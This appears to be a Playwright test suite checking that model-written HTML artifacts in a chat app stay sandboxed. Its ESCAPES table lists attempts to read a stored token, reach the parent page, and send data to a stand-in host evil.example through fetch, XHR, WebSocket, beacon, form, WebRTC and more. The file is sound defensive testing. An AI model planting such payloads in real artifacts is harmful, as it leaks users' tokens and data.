"""HTML a model wrote is shown, and can reach neither the app nor anything else."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from bancada.model.scripted import calls, says
from tests.browser.acts import ask, conversation, finished
from tests.browser.conftest import OpenPage
from tests.browser.stage import Stage


def fenced(language: str, source: str) -> str:
    return f"Aqui está:\n\n```{language}\n{source}\n```\n\nFim."


def test_html_without_a_doctype_gets_our_chart_library(stage: Stage, open_page: OpenPage) -> None:
    source = (
        '<canvas id="c"></canvas><p id="out"></p><script>'
        "new Chart(document.getElementById('c'), {type: 'bar', data: {labels: ['a'], datasets: [{data: [1]}]}});"
        "document.getElementById('out').textContent = 'Chart.js ' + Chart.version;</script>"
    )
    stage.script(fenced("html", source))
    page = open_page(stage)
    conversation(page, stage, "Qualidade")
    ask(page, "desenha")
    frame = finished(page).frame_locator("iframe")
    expect(frame.locator("#out")).to_contain_text("Chart.js 4.")


def test_svg_is_shown_and_jsx_stays_source(stage: Stage, open_page: OpenPage) -> None:
    svg = '<svg width="80" height="40"><rect id="r" width="80" height="40" fill="teal"/></svg>'
    stage.script(fenced("svg", svg) + "\n\n```jsx\n<Button/>\n```\n")
    page = open_page(stage)
    conversation(page, stage, "Qualidade")
    ask(page, "desenha")
    done = finished(page)
    expect(done.locator("iframe")).to_have_count(1)
    expect(done.frame_locator("iframe").locator("#r")).to_be_visible()
    expect(done.locator(".code-block", has_text="<Button/>")).to_be_visible()


def test_the_source_can_be_seen_and_the_frame_takes_the_whole_screen(
    stage: Stage, open_page: OpenPage
) -> None:
    stage.script(fenced("html", "<h1>Olá</h1>"))
    page = open_page(stage)
    conversation(page, stage, "Qualidade")
    ask(page, "desenha")
    artifact = finished(page).locator(".artifact")
    artifact.get_by_role("tab", name="Código").click()
    expect(artifact.locator("code")).to_have_text("<h1>Olá</h1>")
    artifact.get_by_role("tab", name="Ver").click()
    artifact.get_by_role("button", name="Ecrã inteiro").click()
    expect(artifact).to_have_class("artifact full")
    artifact.get_by_role("button", name="Sair do ecrã inteiro").click()
    expect(artifact).to_have_class("artifact")


ESCAPES = {
    "parent document": "parent.document.title = 'reached'",
    "top location": "top.location = 'http://evil.example/'",
    "own location": "location = 'http://evil.example/?leak'",
    "a new window": "if (!open('http://evil.example/')) throw new Error('no window')",
    "storage": "localStorage.getItem('bancada.token')",
    "cookies": "document.cookie = 'a=1'; if (!document.cookie) throw new Error('no cookie')",
    "fetch": "await fetch('http://evil.example/')",
    "fetch of our own server": "await fetch('/me')",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'http://evil.example/', false); x.send()",
    "image": "await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = 'http://evil.example/a.png' })",
    "script": "await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = no; s.src = 'http://evil.example/a.js'; document.head.append(s) })",
    "style sheet": "await new Promise((ok, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = ok; l.onerror = no; l.href = 'http://evil.example/a.css'; document.head.append(l) })",
    "web socket": "await new Promise((ok, no) => { const w = new WebSocket('ws://evil.example/'); w.onopen = ok; w.onerror = no })",
    "event source": "await new Promise((ok, no) => { const e = new EventSource('http://evil.example/'); e.onopen = ok; e.onerror = no })",
    "beacon": "await new Promise((ok, no) => { addEventListener('securitypolicyviolation', no); navigator.sendBeacon('http://evil.example/', 'x'); setTimeout(ok, 400) })",
    "worker": "new Worker(URL.createObjectURL(new Blob(['1']))); await new Promise((ok, no) => { addEventListener('securitypolicyviolation', no); setTimeout(ok, 400) })",
    "form": "const f = document.createElement('form'); f.action = 'http://evil.example/'; document.body.append(f); f.submit(); throw new Error('still here')",
    "nested frame": "await new Promise((ok, no) => { addEventListener('securitypolicyviolation', no); const f = document.createElement('iframe'); f.src = 'http://evil.example/'; document.body.append(f); setTimeout(ok, 600) })",
    "peer connection": "new RTCPeerConnection({iceServers: [{urls: 'stun:evil.example'}]})",
    "font": "await new FontFace('x', 'url(http://evil.example/a.woff2)').load()",
}


@pytest.mark.parametrize("attempt", ESCAPES.values(), ids=ESCAPES.keys())
def test_an_artifact_can_reach_neither_the_app_nor_the_network(
    stage: Stage, open_page: OpenPage, attempt: str
) -> None:
    source = (
        '<p id="out">tries</p><script>(async () => { const out = document.getElementById("out");'
        f"try {{ {attempt}; out.textContent = 'reached' }} catch (error) {{ out.textContent = 'held' }} }})()</script>"
    )
    stage.script(fenced("html", source))
    page = open_page(stage)
    conversation(page, stage, "Qualidade")
    title = page.title()
    ask(page, "tenta")
    out = finished(page).frame_locator("iframe").locator("#out")
    # A frame that tried to leave shows the browser's own error page instead: it did not get out.
    page.wait_for_timeout(900)
    shown = out.text_content() if out.count() else "held"
    assert shown == "held"
    assert page.title() != "reached"
    assert page.url.startswith(stage.url)
    assert title


def test_a_dashboard_is_held_like_an_artifact(stage: Stage, open_page: OpenPage) -> None:
    html = "<p id='out'>tries</p><script>try { parent.document.title = 'reached' } catch (e) { out.textContent = 'held' }</script>"
    stage.script(calls("gerar_dashboard", titulo="Mau", html=html), says("Guardado."))
    page = open_page(stage)
    conversation(page, stage, "Qualidade")
    ask(page, "painel")
    expect(finished(page).frame_locator("iframe").locator("#out")).to_have_text("held")


def test_messages_of_another_frame_are_not_believed(stage: Stage, open_page: OpenPage) -> None:
    """A height told by a window that is not the artifact's changes nothing."""
    stage.script(fenced("html", "<p>curto</p>"))
    page = open_page(stage)
    conversation(page, stage, "Qualidade")
    ask(page, "desenha")
    frame = finished(page).locator("iframe")
    expect(frame).to_be_visible()
    page.evaluate("window.postMessage({ type: 'bancada:height', height: 5000 }, '*')")
    page.wait_for_timeout(200)
    box = frame.bounding_box()
    assert box is not None
    assert box["height"] < 1000
